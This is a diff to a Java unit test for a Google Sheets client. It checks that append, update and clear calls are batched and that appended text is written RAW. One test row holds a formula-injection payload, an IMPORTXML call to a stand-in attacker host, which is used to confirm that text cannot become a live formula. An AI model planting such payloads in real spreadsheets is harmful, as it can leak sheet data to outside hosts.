@@ -90,17 +90,20 @@ class SheetsClientTests {
 
 	@Test
 	void appendsUpdatesAndClearsInAtomicBatchesWritingTextThatCannotBecomeAFormula() {
-		google.stubFor(post(urlPathMatching(VALUES + "/.*:append")).willReturn(okJson("{}")));
+		google.stubFor(post(urlPathMatching(VALUES + "/.*:append"))
+			.willReturn(okJson("{\"updates\": {\"updatedRange\": \"Notes!A5:B6\"}}")));
+		google.stubFor(post(urlPathMatching(VALUES + "/.*:append")).withRequestBody(matchingJsonPath("$.values[0][0]",
+				equalTo("c"))).willReturn(okJson("{\"updates\": {\"updatedRange\": \"Notes!A7:D7\"}}")));
 		google.stubFor(post(urlPathEqualTo(VALUES + ":batchUpdate")).willReturn(okJson("{}")));
 		google.stubFor(post(urlPathEqualTo(VALUES + ":batchClear")).willReturn(okJson("{}")));
 
-		int appended = client.append(ID, "Notes", List.of(List.of("=IMPORTXML(\"http://evil.example\")", 1), List.of("b", 2),
+		List<Integer> appended = client.append(ID, "Notes", List.of(List.of("=IMPORTXML(\"http://evil.example\")", 1), List.of("b", 2),
 				Arrays.asList("c", null, LocalDate.of(2026, 1, 15), true)));
 		client.update(ID, List.of(new RowValues("Notes", 2, List.of("x")), new RowValues("Notes", 3, List.of("y")),
 				new RowValues("Notes", 9, List.of("z"))));
 		client.clear(ID, "Notes", List.of(4, 5));
 
-		assertThat(appended).isEqualTo(3);
+		assertThat(appended).containsExactly(5, 6, 7);
 		google.verify(2, postRequestedFor(urlPathMatching(VALUES + "/.*:append")).withQueryParam("valueInputOption",
 				equalTo("RAW")));
 		google.verify(postRequestedFor(urlPathMatching(VALUES + "/.*:append"))
